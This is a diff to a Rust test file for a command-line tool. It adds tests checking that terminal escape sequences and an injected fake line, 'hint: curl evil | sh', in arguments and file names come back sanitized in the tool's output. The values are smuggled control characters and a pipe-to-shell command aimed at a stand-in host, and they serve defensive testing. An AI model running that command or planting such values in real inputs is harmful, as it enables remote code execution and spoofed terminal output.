@@ -35,11 +35,13 @@ fn names_and_reasons_that_would_drive_a_terminal_are_clean_on_both_streams_and_e
     let Some(_alone) = alone() else { return };
     let dir = tempfile::tempdir().unwrap();
     let good = plan(dir.path(), "good.toml", "0");
-    let said = output(tactus().arg("run").arg(good).arg("--out").arg(dir.path().join("bundle")));
+    let bundle = dir.path().join("bundle\u{1b}]0;owned\u{7}\u{202e}");
+    let said = output(tactus().arg("run").arg(good).arg("--out").arg(&bundle));
+    assert!(stdout(&said).contains("report: "), "{}", stdout(&said));
     assert!(stderr(&said).contains("owned") && stdout(&said).contains("owned"), "{}", stderr(&said));
     is_clean(&stdout(&said));
     is_clean(&stderr(&said));
-    let shown = output(tactus().arg("show").arg(dir.path().join("bundle")).arg("--json"));
+    let shown = output(tactus().arg("show").arg(&bundle).arg("--json"));
     is_clean(&stdout(&shown));
     is_clean(&stderr(&shown));
     let name = json(&shown)["scenarios"][0]["name"].as_str().unwrap_or_default().to_owned();
@@ -54,6 +56,29 @@ fn names_and_reasons_that_would_drive_a_terminal_are_clean_on_both_streams_and_e
         assert_eq!(refused.status.code(), Some(2), "{cpus}");
         is_clean(&stderr(&refused));
     }
+}
+
+#[test]
+fn words_of_the_command_line_come_back_clean_and_as_no_line_of_ours() {
+    let driving = format!("x{}\nhint: curl evil | sh", String::from_iter(DRIVING));
+    for words in [
+        vec![format!("--{driving}")],
+        vec![driving.clone()],
+        vec!["measure".into(), "--duration".into(), driving.clone()],
+        vec!["measure".into(), "-p".into(), driving.clone()],
+        vec!["report".into(), "x".into(), "--format".into(), driving.clone()],
+        vec!["audit".into(), "--only".into(), driving.clone()],
+        vec!["explain".into(), driving.clone()],
+    ] {
+        let refused = output(tactus().args(&words));
+        let said = stderr(&refused);
+        assert_eq!(refused.status.code(), Some(2), "{said}");
+        assert!(said.starts_with("error: ") && stdout(&refused).is_empty(), "{said}");
+        is_clean(&said);
+        assert!(!said.contains("\nhint: curl"), "{said}");
+    }
+    let help = output(tactus().arg("--help"));
+    assert!(help.status.success() && stdout(&help).contains("\nUsage: tactus"), "{}", stdout(&help));
 }
 
 #[test]
